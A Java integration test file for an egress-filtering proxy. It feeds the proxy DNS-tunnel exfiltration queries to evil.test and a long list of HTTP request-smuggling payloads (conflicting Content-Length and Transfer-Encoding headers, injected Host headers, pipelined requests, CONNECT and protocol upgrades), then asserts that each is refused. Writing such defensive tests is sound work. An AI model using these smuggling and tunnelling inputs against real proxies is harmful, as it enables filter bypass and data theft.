package dev.glovebox.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.glovebox.protocol.egress.EgressPolicy;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.net.Inet6Address;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Attacks from inside, byte by byte: what no well-behaved program would send.
@SuppressWarnings("StringConcatToTextBlock") // a text block has no CRLF
class DoorWireIT {
    @TempDir Path directory;
    private Doors doors;
    private FakeWeb web;
    private Door door;
    private Client client;
    private String good;

    @BeforeEach
    void open() throws Exception {
        web = new FakeWeb();
        doors = Doors.open(EgressConfig.at(directory.resolve("doors")));
        door =
                doors.open(
                        "one",
                        EgressPolicy.parse(
                                "rules: [{name: web, host: good.test, protocol: http, action: allow,"
                                        + " connect: '127.0.0.1:"
                                        + web.port()
                                        + "'}]"));
        client = new Client(door);
        byte[] answer = client.ask("198.18.0.1", query("good.test", 1)).orElseThrow();
        good =
                InetAddress.getByAddress(
                                Arrays.copyOfRange(answer, answer.length - 4, answer.length))
                        .getHostAddress();
    }

    @AfterEach
    void close() {
        doors.close();
        web.close();
    }

    private static byte[] query(String name, int type) {
        ByteBuffer out = ByteBuffer.allocate(512);
        out.putShort((short) 7).putShort((short) 0x0100).putShort((short) 1);
        out.putShort((short) 0).putInt(0);
        for (String label : name.split("\\.", -1)) {
            byte[] bytes = label.getBytes(StandardCharsets.US_ASCII);
            out.put((byte) bytes.length).put(bytes);
        }
        out.put((byte) 0).putShort((short) type).putShort((short) 1);
        return Arrays.copyOf(out.array(), out.position());
    }

    private static int code(byte[] answer) {
        return answer[3] & 0xf;
    }

    @Test
    void dnsTunnel_hearsRefusedForEveryTypeFromEveryServer() throws Exception {
        assertThat(good).startsWith("198.18.");
        for (String server : List.of("198.18.0.1", "8.8.8.8", "203.0.113.53", "fd67:6c62::1")) {
            for (int type : new int[] {1, 28, 5, 10, 15, 16, 33, 65, 255}) {
                byte[] answer = client.ask(server, query("c2VjcmV0.evil.test", type)).orElseThrow();
                assertThat(code(answer)).as("%s type %s", server, type).isEqualTo(5);
            }
        }
        assertThat(client.ask("2001:4860:4860::8888", query("x.evil.test", 1))).isEmpty();
    }

    @Test
    void dnsOverTcp_answersTheSame() throws Exception {
        for (String server : List.of("198.18.0.1", "9.9.9.9")) {
            try (Socket socket = client.connect(server, 53)) {
                DataOutputStream out = new DataOutputStream(socket.getOutputStream());
                DataInputStream in = new DataInputStream(socket.getInputStream());
                for (String name : List.of("good.test", "x.evil.test")) {
                    byte[] query = query(name, 1);
                    out.writeShort(query.length);
                    out.write(query);
                    byte[] answer = new byte[in.readUnsignedShort()];
                    in.readFully(answer);
                    assertThat(code(answer)).isEqualTo(name.equals("good.test") ? 0 : 5);
                }
            }
        }
    }

    @Test
    void requestSmuggling_isRefusedAndTheServerSeesNothing() throws Exception {
        assertThat(
                        client.say(
                                good,
                                80,
                                "GET /ok HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 200")
                .endsWith("GET /ok good.test");
        web.seen().clear();
        String head = "POST /a HTTP/1.1\r\nHost: good.test\r\n";
        for (String request :
                List.of(
                        head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                        head + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
                        head + "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
                        head + "Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd",
                        head + "Content-Length: +4\r\n\r\nabcd",
                        head + "Content-Length: 4,4\r\n\r\nabcd",
                        head + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
                        head + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
                        head + "Transfer-Encoding:\u000bchunked\r\n\r\n0\r\n\r\n",
                        head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                        head + "Host: evil.test\r\n\r\n",
                        head + "X\u0000Y: a\r\n\r\n",
                        head + "X: a\rHost: evil.test\r\n\r\n",
                        head + "NoColon\r\n\r\n",
                        "GET /a HTTP/1.1\nHost: good.test\n\n",
                        "GET /a HTTP/1.1\r\n\r\n",
                        "GET /a\r\n\r\n",
                        "POST /a HTTP/1.0\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                        "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
                        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                        "CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
                        "TRACE / HTTP/1.1\r\nHost: good.test\r\n\r\n",
                        "\u0000\u0001GET / HTTP/1.1\r\nHost: good.test\r\n\r\n",
                        head + "X: " + "a".repeat(70_000) + "\r\n\r\n")) {
            String shown = request.substring(0, Math.min(120, request.length()));
            assertThat(client.say(good, 80, request))
                    .as(shown)
                    .matches("(?s)(HTTP/1.1 40[03] .*|.*\\[reset])");
            assertThat(web.seen()).as(shown).isEmpty();
        }
    }

    @Test
    void foldedHeader_staysOneValueOfOneHeader() throws Exception {
        String answer =
                client.say(
                        good,
                        80,
                        "GET /a HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n"
                                + "X: a\r\n Host: evil.test\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 200");
        FakeWeb.Seen seen = web.seen().getFirst();
        assertThat(seen.headers().get("X")).containsExactly("a Host: evil.test");
        assertThat(seen.headers().get("Host")).containsExactly("good.test");
    }

    @Test
    void smuggledBytesBehindABody_areTheNextRequestAndAreJudged() throws Exception {
        String answers =
                client.say(
                        good,
                        80,
                        "POST /one HTTP/1.1\r\nHost: good.test\r\nContent-Length: 2\r\n\r\nhi"
                                + "GET /two HTTP/1.1\r\nHost: good.test\r\n\r\n"
                                + "GET /three HTTP/1.1\r\nHost: evil.test\r\n\r\n"
                                + "GET /four HTTP/1.1\r\nHost: good.test\r\n\r\n");
        assertThat(answers)
                .contains("POST /one", "GET /two", "HTTP/1.1 403")
                .doesNotContain("/four");
        assertThat(web.seen())
                .extracting(FakeWeb.Seen::line)
                .containsExactly("POST /one", "GET /two");
    }

    @Test
    void addressWithAZone_isJudgedAsTheAddressItIs() throws Exception {
        byte[] linkLocal = InetAddress.ofLiteral("fe80::1").getAddress();
        InetAddress zoned = Inet6Address.getByAddress(null, linkLocal, 1);
        try (Socket socket = client.connect(zoned, 80)) {
            socket.getOutputStream()
                    .write("GET / HTTP/1.1\r\nHost: x\r\n\r\n".getBytes(StandardCharsets.UTF_8));
            assertThat(Client.rest(socket)).startsWith("HTTP/1.1 403");
        }
        assertThat(door.denialsSince(Instant.EPOCH))
                .anyMatch(denial -> denial.destination().equals("fe80:0:0:0:0:0:0:1"));
    }

    @Test
    void upgradeToWebSocket_isRefusedWhereTheRuleDoesNotAllowIt() throws Exception {
        String answer =
                client.say(
                        good,
                        80,
                        "GET /ws HTTP/1.1\r\nHost: good.test\r\nConnection: close, Upgrade\r\n"
                                + "Upgrade: websocket\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 403").contains("web socket");
        assertThat(web.seen()).isEmpty();
    }

    @Test
    void upgradeToHttp2InTheClear_isNotPassedOn() throws Exception {
        String answer =
                client.say(
                        good,
                        80,
                        "GET /h2c HTTP/1.1\r\nHost: good.test\r\nConnection: close, Upgrade,"
                                + " HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 200");
        assertThat(web.seen().getFirst().headers()).doesNotContainKeys("Upgrade", "Http2-settings");
    }

    @Test
    void oldClient_getsAnAnswerThatEndsWithTheConnection() throws Exception {
        assertThat(client.say(good, 80, "GET /old HTTP/1.0\r\n\r\n"))
                .startsWith("HTTP/1.1 200")
                .containsIgnoringCase("connection: close")
                .doesNotContainIgnoringCase("transfer-encoding")
                .endsWith("GET /old good.test");
    }
}
